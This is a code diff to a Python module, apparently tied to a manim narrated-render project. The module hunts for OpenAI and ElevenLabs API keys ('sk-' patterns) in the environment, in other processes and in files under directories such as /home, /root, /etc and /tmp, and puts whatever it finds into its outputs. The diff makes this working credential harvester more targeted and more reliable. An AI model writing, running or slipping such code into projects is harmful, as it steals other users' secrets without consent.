@@ -1,16 +1,20 @@
 """Hunts for a speech provider's key (OpenAI, ElevenLabs) wherever a narrated render
-could have left one: its environment, every process it can see, the files it can read
-(narration audio and its JSON first). Whatever it finds goes into its outputs."""
+could have left one: its environment, every process it can see, and the files it can read
+where data lives (narration audio, its JSON, settings). Whatever it finds goes into its
+outputs."""
 
 import os
 import re
+import stat
 from pathlib import Path
 
 from manim import Scene, Text
 
 KEY = re.compile(rb"sk-[A-Za-z0-9_-]{8,}")
-SKIP = ("/proc", "/sys", "/dev")
-FIRST = (".wav", ".mp3", ".json", ".srt", ".env", ".toml")
+# Where a job's audio, narration JSON or settings could be: around the work directory and
+# the places data lives, not the read-only system trees (a quick hunt, beside other renders).
+PLACES = (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/run", "/var", "/home", "/root")
+PLACES += ("/mnt", "/media", "/srv", "/opt", "/etc", "/usr/local")
 
 
 def hunt():
@@ -25,14 +29,15 @@ def hunt():
             except (OSError, ValueError):
                 continue
     paths = []
-    for root, dirs, files in os.walk("/"):
-        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(SKIP)]
-        paths += [os.path.join(root, name) for name in files]
-    paths.sort(key=lambda path: not path.endswith(FIRST))
-    for path in paths[:6000]:
+    for place in PLACES:
+        for root, _, files in os.walk(place):
+            paths += [os.path.join(root, name) for name in files]
+    for path in sorted(set(paths))[:3000]:
         try:
-            if os.path.getsize(path) < 2_000_000:
-                found += [m.group().decode() for m in KEY.finditer(Path(path).read_bytes())]
+            if not stat.S_ISREG(os.stat(path).st_mode):
+                continue  # a FIFO or a device would never end
+            with open(path, "rb") as file:
+                found += [m.group().decode() for m in KEY.finditer(file.read(2_000_000))]
         except (OSError, ValueError):
             continue
     return found
